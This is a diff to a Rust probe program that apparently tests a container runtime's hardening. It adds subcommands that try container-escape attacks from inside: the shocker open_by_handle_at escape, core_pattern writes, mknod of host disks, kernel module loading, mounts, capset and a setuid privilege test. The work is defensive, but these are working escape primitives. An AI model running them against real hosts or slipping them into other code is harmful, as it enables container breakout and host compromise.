@@ -12,6 +12,9 @@
 //! probe alloc MIB              allocate and touch MIB mebibytes, reporting progress
 //! probe spawn N SECONDS        start N children that sleep SECONDS; report how many started
 //! probe spin SECONDS           burn CPU for SECONDS of wall-clock time
+//! probe try ATTACK [ARGS]      try one of the hardening chapter's attacks (see `attack`); report whether
+//!                              it worked and the errno it met
+//! probe as-nobody PROGRAM ...  become uid and gid 65534, then exec PROGRAM (a setuid test)
 //! ```
 
 use std::fmt::Write as _;
@@ -28,12 +31,15 @@ fn main() {
         ["alloc", mib] => number(mib).map(alloc),
         ["spawn", n, seconds] => number(n).and_then(|n| Ok(spawn(n, number(seconds)?))),
         ["spin", seconds] => number(seconds).map(spin),
+        ["try", attack_words @ ..] => attack(attack_words),
+        ["as-nobody", program, rest @ ..] => as_nobody(program, rest),
         ["sleep", seconds] => number(seconds).map(|s| {
             std::thread::sleep(Duration::from_secs(s));
             "{}".to_string()
         }),
         _ => Err(format!(
-            "usage: probe [facts | chroot-escape MARKER | alloc MIB | spawn N SECONDS | spin SECONDS]; got {words:?}"
+            "usage: probe [facts | chroot-escape MARKER | alloc MIB | spawn N SECONDS | spin SECONDS | try ATTACK | \
+             as-nobody PROGRAM ARGS]; got {words:?}"
         )),
     };
     match result {
@@ -119,7 +125,7 @@ fn facts() -> String {
     let fds = open_fds();
     format!(
         "{{\"pid\":{pid},\"ppid\":{ppid},\"uid\":{},\"hostname\":{},\"cwd\":{},\"cap_eff\":{},\
-         \"root_entries\":{},\"proc_pids\":{},\"cgroup\":{},\"mounts\":[{}],\"fds\":[{}]}}",
+         \"root_entries\":{},\"proc_pids\":{},\"cgroup\":{},\"mounts\":[{}],\"fds\":[{}],{}}}",
         quote(&uid),
         quote(&hostname),
         quote(&cwd),
@@ -128,8 +134,22 @@ fn facts() -> String {
         quote_all(pids.iter().map(String::as_str)),
         quote_all(cgroup.lines()),
         mounts.join(","),
-        fds.join(",")
+        fds.join(","),
+        privilege_facts()
     )
+}
+
+/// The hardening chapter's facts: the effective uid, the five capability sets, `no_new_privs` and the
+/// seccomp mode, as /proc/self/status shows them.
+fn privilege_facts() -> String {
+    let euid = status_field("Uid").split_whitespace().nth(1).unwrap_or("").to_string();
+    let fields = ["CapPrm", "CapInh", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"];
+    let keys = ["cap_prm", "cap_inh", "cap_bnd", "cap_amb", "no_new_privs", "seccomp"];
+    let mut out = format!("\"euid\":{}", quote(&euid));
+    for (key, field) in keys.iter().zip(fields) {
+        let _ = write!(out, ",\"{key}\":{}", quote(&status_field(field)));
+    }
+    out
 }
 
 /// The descriptors open in this process, each with what it points to: `{"fd":0,"target":"/dev/null"}`.
@@ -219,4 +239,237 @@ fn spin(seconds: u64) -> String {
         std::hint::black_box(count);
     }
     format!("{{\"spun_seconds\":{seconds}}}")
+}
+
+// The hardening chapter: attacks from inside. Each is tried for real; the JSON says whether it worked and,
+// when it did not, the errno that stopped it (EPERM from seccomp or a capability check, EROFS
+// from a read-only mount, EACCES from nodev...).
+
+unsafe extern "C" {
+    fn syscall(number: i64, ...) -> i64;
+}
+
+/// x86_64 system call numbers (the probe runs where the tests run).
+mod nr {
+    pub const MOUNT: i64 = 165;
+    pub const UMOUNT2: i64 = 166;
+    pub const INIT_MODULE: i64 = 175;
+    pub const FINIT_MODULE: i64 = 313;
+    pub const OPEN_BY_HANDLE_AT: i64 = 304;
+    pub const CAPGET: i64 = 125;
+    pub const CAPSET: i64 = 126;
+    pub const MKNODAT: i64 = 259;
+    pub const SETGROUPS: i64 = 116;
+    pub const SETRESUID: i64 = 117;
+    pub const SETRESGID: i64 = 119;
+    pub const UNSHARE: i64 = 272;
+    pub const KEYCTL: i64 = 250;
+}
+
+/// A finished system call: its result, or -errno.
+fn checked(result: i64) -> Result<i64, i32> {
+    if result < 0 { Err(std::io::Error::last_os_error().raw_os_error().unwrap_or(0)) } else { Ok(result) }
+}
+
+fn c_path(path: &str) -> std::ffi::CString {
+    std::ffi::CString::new(path).unwrap_or_default()
+}
+
+/// The report of an attack: `worked`, the errno that stopped it (0 when it worked), and what it
+/// saw.
+fn outcome(name: &str, result: Result<String, i32>) -> String {
+    let (worked, errno, detail) = match result {
+        Ok(detail) => (true, 0, detail),
+        Err(0) => (false, 0, "nothing there".to_string()),
+        Err(errno) => (false, errno, std::io::Error::from_raw_os_error(errno).to_string()),
+    };
+    format!(
+        "{{\"attack\":{},\"worked\":{worked},\"errno\":{errno},\"detail\":{}}}",
+        quote(name),
+        quote(&detail)
+    )
+}
+
+fn attack(words: &[&str]) -> Result<String, String> {
+    let result = match words {
+        ["shocker"] => shocker(),
+        ["write-back", path] => write_back(path),
+        ["read", path] => read_some(path),
+        ["create-in", dir] => create_in(dir),
+        ["mknod-open", path, major, minor] => mknod_open(path, number(major)?, number(minor)?),
+        ["open", path] => open_and_read(path),
+        ["mknod-open-on-tmpfs", major, minor] => mknod_open_on_tmpfs(number(major)?, number(minor)?),
+        ["module"] => load_module(),
+        ["mount"] => mount_tmpfs(),
+        ["raise", cap] => raise_capability(number(cap)?),
+        ["unshare-user"] => {
+            checked(unsafe { syscall(nr::UNSHARE, 0x1000_0000i64) }).map(|_| "a new user namespace".into())
+        }
+        ["keyctl"] => {
+            checked(unsafe { syscall(nr::KEYCTL, 0i64, -3i64, 0i64) }).map(|id| format!("keyring {id}"))
+        }
+        _ => return Err(format!("unknown attack {words:?}")),
+    };
+    Ok(outcome(&words.join(" "), result))
+}
+
+/// CVE-2014-3519 ("shocker"): `open_by_handle_at` opens a file by its inode number on the
+/// filesystem of a descriptor given, without a path, so a chroot or a pivot_root does not
+/// matter. Inode 2 is the root directory of ext2/3/4: a handle of type 1 (32-bit inode and
+/// generation) for it opens the root of the host filesystem that holds the container's root.
+fn shocker() -> Result<String, i32> {
+    let root = std::fs::File::open("/").map_err(|e| e.raw_os_error().unwrap_or(0))?;
+    // struct file_handle { u32 handle_bytes; i32 handle_type; u8 f_handle[8] }
+    #[repr(C)]
+    struct FileHandle {
+        bytes: u32,
+        kind: i32,
+        inode: u32,
+        generation: u32,
+    }
+    let handle = FileHandle { bytes: 8, kind: 1, inode: 2, generation: 0 };
+    use std::os::fd::{AsRawFd, FromRawFd};
+    const O_DIRECTORY: i64 = 0o200000;
+    let fd = checked(unsafe {
+        syscall(nr::OPEN_BY_HANDLE_AT, i64::from(root.as_raw_fd()), &handle as *const FileHandle, O_DIRECTORY)
+    })?;
+    // SAFETY: a descriptor the kernel has just given us and no one else owns.
+    let dir = unsafe { std::fs::File::from_raw_fd(fd as i32) };
+    let listing = std::fs::read_dir(format!("/proc/self/fd/{}", dir.as_raw_fd()))
+        .map(|d| d.filter_map(|e| e.ok()?.file_name().into_string().ok()).collect::<Vec<_>>().join(" "))
+        .unwrap_or_default();
+    Ok(format!("opened inode 2 of the root's filesystem: {listing}"))
+}
+
+/// Open `path` for writing and write back what it holds: a test of whether the write is
+/// allowed that changes nothing if it is (`/proc/sys/kernel/core_pattern` is the host's). A
+/// file that cannot be read (`/proc/sysrq-trigger` is write-only) gets a write of no bytes,
+/// which triggers nothing.
+fn write_back(path: &str) -> Result<String, i32> {
+    let errno = |e: std::io::Error| e.raw_os_error().unwrap_or(0);
+    let content = std::fs::read(path).unwrap_or_default();
+    let mut file = std::fs::OpenOptions::new().write(true).open(path).map_err(errno)?;
+    file.write_all(&content).map_err(errno)?;
+    Ok(format!("wrote {} bytes back", content.len()))
+}
+
+/// Read from `path` (a file, or a directory's entries); it "works" when something comes back.
+fn read_some(path: &str) -> Result<String, i32> {
+    let errno = |e: std::io::Error| e.raw_os_error().unwrap_or(0);
+    if Path::new(path).is_dir() {
+        let names: Vec<String> = std::fs::read_dir(path)
+            .map_err(errno)?
+            .filter_map(|e| e.ok()?.file_name().into_string().ok())
+            .collect();
+        return if names.is_empty() { Err(0) } else { Ok(names.join(" ")) };
+    }
+    let mut buffer = vec![0u8; 256];
+    let n =
+        std::io::Read::read(&mut std::fs::File::open(path).map_err(errno)?, &mut buffer).map_err(errno)?;
+    if n == 0 { Err(0) } else { Ok(String::from_utf8_lossy(&buffer[..n]).into_owned()) }
+}
+
+/// Create a file in `dir` (and remove it again).
+fn create_in(dir: &str) -> Result<String, i32> {
+    let path = Path::new(dir).join(".probe-was-here");
+    std::fs::write(&path, "x").map_err(|e| e.raw_os_error().unwrap_or(0))?;
+    let _ = std::fs::remove_file(&path);
+    Ok(format!("created {}", path.display()))
+}
+
+/// Make a block device node and open it: with the host's disk numbers, the host's disk.
+fn mknod_open(path: &str, major: u64, minor: u64) -> Result<String, i32> {
+    const S_IFBLK: i64 = 0o060000;
+    const AT_FDCWD: i64 = -100;
+    let dev = ((major & 0xfff) << 8) | (minor & 0xff) | ((minor & !0xff) << 12) | ((major & !0xfff) << 32);
+    let name = c_path(path);
+    checked(unsafe { syscall(nr::MKNODAT, AT_FDCWD, name.as_ptr(), S_IFBLK | 0o600, dev as i64) })?;
+    let opened = open_and_read(path);
+    let _ = std::fs::remove_file(path);
+    opened
+}
+
+/// Mount a fresh tmpfs (allowed to hold devices) on /tmp, make a block device node there and
+/// open it: what is left when mounts are allowed is the cgroup's devices allowlist.
+fn mknod_open_on_tmpfs(major: u64, minor: u64) -> Result<String, i32> {
+    let (source, target, kind) = (c_path("probe"), c_path("/tmp"), c_path("tmpfs"));
+    checked(unsafe { syscall(nr::MOUNT, source.as_ptr(), target.as_ptr(), kind.as_ptr(), 0i64, 0i64) })?;
+    let opened = mknod_open("/tmp/disk", major, minor);
+    let _ = unsafe { syscall(nr::UMOUNT2, target.as_ptr(), 2i64) };
+    opened
+}
+
+/// Open `path` and read a byte from it.
+fn open_and_read(path: &str) -> Result<String, i32> {
+    let errno = |e: std::io::Error| e.raw_os_error().unwrap_or(0);
+    let mut file = std::fs::File::open(path).map_err(errno)?;
+    let mut byte = [0u8; 1];
+    let n = std::io::Read::read(&mut file, &mut byte).map_err(errno)?;
+    Ok(format!("opened {path} and read {n} byte(s)"))
+}
+
+/// `init_module` with an empty image, then `finit_module` on a bad descriptor: either reaching
+/// the kernel's argument checks (EINVAL, EFAULT, EBADF, ENOEXEC) means the door is open; a
+/// refusal is EPERM.
+fn load_module() -> Result<String, i32> {
+    let empty = c_path("");
+    let first = checked(unsafe { syscall(nr::INIT_MODULE, empty.as_ptr(), 0i64, empty.as_ptr()) });
+    let second = checked(unsafe { syscall(nr::FINIT_MODULE, -1i64, empty.as_ptr(), 0i64) });
+    const EPERM: i32 = 1;
+    if first == Err(EPERM) && second == Err(EPERM) {
+        return Err(EPERM);
+    }
+    Ok(format!("the kernel looked at the module: init_module {first:?}, finit_module {second:?}"))
+}
+
+/// Mount a tmpfs on /tmp (and unmount it).
+fn mount_tmpfs() -> Result<String, i32> {
+    let (source, target, kind) = (c_path("probe"), c_path("/tmp"), c_path("tmpfs"));
+    checked(unsafe { syscall(nr::MOUNT, source.as_ptr(), target.as_ptr(), kind.as_ptr(), 0i64, 0i64) })?;
+    let _ = unsafe { syscall(nr::UMOUNT2, target.as_ptr(), 2i64) };
+    Ok("mounted a tmpfs on /tmp".into())
+}
+
+/// Put capability `cap` into the effective and permitted sets with `capset`.
+fn raise_capability(cap: u64) -> Result<String, i32> {
+    #[repr(C)]
+    struct Header {
+        version: u32,
+        pid: i32,
+    }
+    #[repr(C)]
+    #[derive(Clone, Copy, Default)]
+    struct Data {
+        effective: u32,
+        permitted: u32,
+        inheritable: u32,
+    }
+    let mut header = Header { version: 0x2008_0522, pid: 0 };
+    let mut data = [Data::default(); 2];
+    checked(unsafe { syscall(nr::CAPGET, &mut header as *mut Header, data.as_mut_ptr()) })?;
+    let (half, bit) = ((cap / 32) as usize, 1u32 << (cap % 32));
+    data[half].effective |= bit;
+    data[half].permitted |= bit;
+    checked(unsafe { syscall(nr::CAPSET, &mut header as *mut Header, data.as_ptr()) })?;
+    Ok(format!("capability {cap} is effective"))
+}
+
+/// Become uid and gid 65534 (nobody), then exec `program`: a setuid-root program then shows
+/// whether it gained root (`euid` 0) or, under `no_new_privs`, nothing.
+fn as_nobody(program: &str, args: &[&str]) -> Result<String, String> {
+    let fail = |what: &str| format!("{what}: {}", std::io::Error::last_os_error());
+    unsafe {
+        if syscall(nr::SETGROUPS, 0i64, std::ptr::null::<u32>()) != 0 {
+            return Err(fail("setgroups"));
+        }
+        if syscall(nr::SETRESGID, 65534i64, 65534i64, 65534i64) != 0 {
+            return Err(fail("setresgid"));
+        }
+        if syscall(nr::SETRESUID, 65534i64, 65534i64, 65534i64) != 0 {
+            return Err(fail("setresuid"));
+        }
+    }
+    use std::os::unix::process::CommandExt;
+    let error = std::process::Command::new(program).args(args).exec();
+    Err(format!("exec {program}: {error}"))
 }
